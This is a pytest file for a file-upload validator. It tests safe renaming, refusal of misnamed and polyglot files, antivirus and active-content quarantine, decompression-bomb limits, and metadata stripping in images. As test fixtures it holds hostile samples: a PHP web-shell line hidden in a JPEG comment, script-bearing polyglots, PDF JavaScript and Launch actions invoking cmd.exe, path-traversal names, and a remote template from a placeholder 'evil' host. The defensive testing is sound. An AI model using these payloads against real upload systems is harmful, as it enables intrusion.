"""A file that somebody brings is what its name says, one thing only, and harmless, or it is refused with a next step."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image

from comitia.platform.answers import RefusedError
from comitia.platform.blobs.antivirus import EICAR
from comitia.platform.blobs.arriving import Received, receive
from comitia.platform.remarks import Remark
from tests.platform.sample_files import archive, office, pdf, picture, png_that_claims, stream

ALL = ("pdf", "picture", "document")


@pytest.fixture(autouse=True)
def folder(settings, tmp_path: Path) -> Path:
    settings.BLOBS_ROOT = tmp_path
    return tmp_path


def bring(content: bytes, name: str, accepts=ALL) -> Received:
    return receive([content], name=name, accepts=accepts, longest=5_000_000)


def refusal(content: bytes, name: str, accepts=ALL) -> str:
    with pytest.raises(RefusedError) as caught:
        bring(content, name, accepts)
    assert isinstance(caught.value.answer.sentence, Remark)
    assert str(caught.value.answer.sentence).count(".") >= 2  # what is wrong, and what to do
    return caught.value.answer.code


def files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


# Kinds and names


@pytest.mark.parametrize(
    ("content", "name", "kept_as"),
    [
        (pdf(), "Letter.PDF", ("Letter.pdf", "application/pdf")),
        (pdf(), "letter", ("letter.pdf", "application/pdf")),
        (pdf(), "..\\..\\etc\\a/Мандат Уфы.pdf", ("Мандат Уфы.pdf", "application/pdf")),
        (pdf(), "invoice\u202efdp.exe.pdf", ("invoicefdp.exe.pdf", "application/pdf")),
        (pdf(), "x" * 300 + ".pdf", ("x" * 116 + ".pdf", "application/pdf")),
        (pdf(), ".pdf", ("file.pdf", "application/pdf")),
        (picture("JPEG"), "me.jpeg", ("me.jpg", "image/jpeg")),
        (picture("WEBP"), "me.webp", ("me.webp", "image/webp")),
        (picture("GIF"), "me.gif", ("me.png", "image/png")),
        (office(), "a.docx", ("a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")),
    ],
)
def test_a_file_is_kept_under_a_plain_name_and_the_type_that_it_has(content, name, kept_as):
    received = bring(content, name)
    assert (received.name, received.media_type) == kept_as


@pytest.mark.parametrize(
    ("content", "name", "accepts", "code"),
    [
        (b"", "a.pdf", ALL, "file_empty"),
        (b"Dear Sir", "a.pdf", ALL, "file_kind_not_accepted"),
        (picture("PNG"), "a.pdf", ALL, "file_misnamed"),
        (pdf(), "a.exe", ALL, "file_misnamed"),
        (pdf(), "a.pdf", ("picture",), "file_kind_not_accepted"),
        (office("xlsx"), "a.xlsx", ("docx",), "file_kind_not_accepted"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc", ALL, "file_old_office"),
        (b"\0\0\0\x18ftypheic" + bytes(600), "a.heic", ALL, "file_apple_photo"),
        (pdf()[:-20], "a.pdf", ALL, "file_not_a_pdf"),
        (pdf() + b"more", "a.pdf", ALL, "file_not_a_pdf"),
        (archive({"readme.txt": "hello"}), "a.zip", ALL, "file_kind_not_accepted"),
        (archive({"readme.txt": "hello"}), "a.xlsx", ALL, "file_not_what_it_says"),
        (archive({"readme.txt": "hello"}), "a.docx", ALL, "file_not_what_it_says"),
        (office("docx"), "a.xlsx", ALL, "file_not_what_it_says"),
        (archive({"word/document.xml": "another"}) + office("docx"), "a.docx", ALL, "file_not_what_it_says"),
        (office("docx")[:-30], "a.docx", ALL, "file_not_what_it_says"),
        (office("docx", **{"..__evil.xml": "<a/>"}), "a.docx", ALL, "file_not_what_it_says"),
        (office("docx", word__vbaProject_bin="", **{"word/vbaProject.bin": "x"}), "a.docx", ALL, "file_has_macros"),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused_and_leaves_nothing(content, name, accepts, code, folder):
    assert (refusal(content, name, accepts), files(folder)) == (code, [])


# Two formats at once


def polyglots() -> Iterator[tuple[str, bytes, str]]:
    inside = archive({"payload.class": b"x" * 200})
    yield "a PDF that is an archive", pdf(b"(" + inside + b")"), "a.pdf"
    yield "a PDF with an archive in its comment", pdf()[:-6] + inside + b"\nstartxref\n9\n%%EOF\n", "a.pdf"
    yield "a PDF that is a page", pdf(heading=b"%PDF-1.4\n%<html><body onload=alert(1)>\n"), "a.pdf"
    yield "a PDF that is a script's page", pdf(b"(<ScRiPt src=x></script>)" * 200), "a.pdf"
    yield "a GIF that is a script", b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)", "a.gif"
    yield "a GIF that is an assignment", b"GIF89a=1" + picture("GIF")[8:], "a.gif"
    yield "a JPEG that is an archive", picture() + inside, "a.jpg"
    yield "a JPEG that is a page", picture() + b"<script>alert(1)</script>", "a.jpg"
    yield "a JPEG that is a program", picture(comment=b"<?php system($_GET[0]);"), "a.jpg"
    yield "a PNG that is a PDF", picture("PNG") + pdf(), "a.png"
    yield "a document that is a PDF", office("docx")[:30] + b"%PDF-1.4" + office("docx")[30:], "a.docx"


@pytest.mark.parametrize(("content", "name"), [case[1:] for case in polyglots()], ids=[case[0] for case in polyglots()])
def test_a_file_that_is_two_formats_at_once_is_refused(content, name, folder):
    assert (refusal(content, name), files(folder)) == ("file_two_formats", [])


# The antivirus test string


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (EICAR, "eicar.com"),
        (pdf(b"(" + EICAR + b")"), "letter.pdf"),
        (pdf(stream(b"1 0 (" + EICAR + b")", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")), "letter.pdf"),
        (office("docx", word__media__a=b"x" * 262_100 + EICAR), "letter.docx"),
        (picture(comment=EICAR), "me.jpg"),
    ],
)
def test_the_antivirus_test_string_is_a_virus_wherever_it_stands(content, name, folder):
    assert len(EICAR) == 68
    assert (refusal(content, name), files(folder)) == ("file_infected", [])


# What acts


@pytest.mark.parametrize(
    "inside",
    [
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        b"<< /S /Rendition /JS 9 0 R >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
        b"<< /Encrypt 9 0 R >>",
        stream(b"5 0 << /S /JavaScript >>", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
        stream(b"5 0 << /S /JavaScript >>", b"/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode]"),
        stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"),
        stream(bytes(70_000_000), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
    ],
    ids=["script", "coded", "rendition", "launch", "files", "locked", "packed", "packed and coded", "unseen", "bomb"],
)
def test_a_pdf_in_which_something_acts_or_cannot_be_seen_goes_into_quarantine(inside):
    assert bring(pdf(inside), "a.pdf").reason == "active_content"


def test_objects_hidden_in_the_stream_of_another_are_found():
    hidden = stream(b"5 0 << /S /JavaScript >>", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    assert bring(pdf(b"<< /Length 999 >>\nstream\n4 0 obj\n" + hidden), "a.pdf").reason == "active_content"


@pytest.mark.parametrize(
    "inside",
    [
        b"stream\n" * 600_000,
        b"endstream stream\n" * 250_000,
        b"1 0 obj << /First /Filter /FlateDecode >>stream\nx\x9c" * 80_000,
        b"1 0 obj << /First /Filter /FlateDecode >>stream\nx\x9c" + b"\0\0\0\xff\xff" * 800_000,
    ],
    ids=["never ended", "very many", "broken", "packed nothing"],
)
def test_a_pdf_made_to_keep_us_busy_is_soon_put_into_quarantine(inside):
    started = time.process_time()
    assert bring(pdf(inside), "a.pdf").reason == "active_content"
    assert time.process_time() - started < 2


def test_a_plain_pdf_and_a_plain_document_only_wait_for_a_scan():
    plain = stream(b"5 0 << /Type /Font /JSX 1 >>", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    link = (
        '<Relationships><Relationship Type="http://x/relationships/hyperlink" TargetMode="External"/></Relationships>'
    )
    reasons = [
        bring(pdf(plain, stream(b"BT (/JS ) Tj ET")), "a.pdf").reason,
        bring(office("docx", word___rels__document_xml_rels="", **{"word/_rels/a.rels": link}), "a.docx").reason,
    ]
    assert reasons == ["not_scanned", "not_scanned"]


@pytest.mark.parametrize(
    "parts",
    [
        {"word/embeddings/oleObject1.bin": "x"},
        {"word/activeX/activeX1.xml": "<a/>"},
        {"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
        {
            "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/></Relationships>'
        },
    ],
    ids=["object", "control", "entities", "template from outside"],
)
def test_a_document_that_holds_something_else_goes_into_quarantine(parts):
    assert bring(office("docx", **parts), "a.docx").reason == "active_content"


def test_a_document_that_unpacks_to_too_much_is_refused_before_it_is_unpacked(folder):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<a/>")
        with file.open("word/document.xml", "w") as part:
            for _turn in range(201):
                part.write(bytes(1_000_000))
    tracemalloc.start()
    assert refusal(out.getvalue(), "a.docx") == "file_unpacks_too_large"
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 3_000_000


# Pictures


@pytest.mark.parametrize("size", [(7072, 7072), (30_000, 30_000), (60_000, 60_000)])
def test_a_picture_that_unpacks_to_too_many_pixels_is_refused_before_it_is_unpacked(size, folder):
    tracemalloc.start()
    assert (refusal(png_that_claims(*size), "a.png"), files(folder)) == ("picture_too_large", [])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 3_000_000


def test_a_damaged_picture_is_refused(folder):
    assert (refusal(picture(size=(400, 300))[:900], "a.jpg"), files(folder)) == ("picture_damaged", [])
    assert (refusal(b"\xff\xd8\xff" + bytes(900), "a.jpg"), files(folder)) == ("picture_damaged", [])


def test_a_picture_is_drawn_anew_upright_and_without_what_the_camera_wrote():
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned
    exif[0x010F] = "A camera of somebody"
    received = bring(picture(size=(40, 30), exif=exif, comment=b"secret"), "me.jpg")
    content = received.path.read_bytes()
    with Image.open(received.path) as drawn:
        assert (drawn.size, dict(drawn.getexif()), drawn.format) == ((30, 40), {}, "JPEG")
    assert (received.width, received.height, received.size) == (30, 40, len(content))
    assert (b"somebody" in content, b"secret" in content, received.reason) == (False, False, "")


def test_a_large_picture_is_made_smaller_and_a_clear_one_stays_clear():
    large = bring(picture(size=(5000, 100)), "a.jpg")
    out = io.BytesIO()
    Image.new("RGBA", (3, 3), (255, 0, 0, 0)).save(out, format="PNG")
    clear = bring(out.getvalue(), "a.png")
    with Image.open(clear.path) as drawn:
        assert ((large.width, large.height), drawn.getpixel((1, 1))[3]) == ((4096, 82), 0)
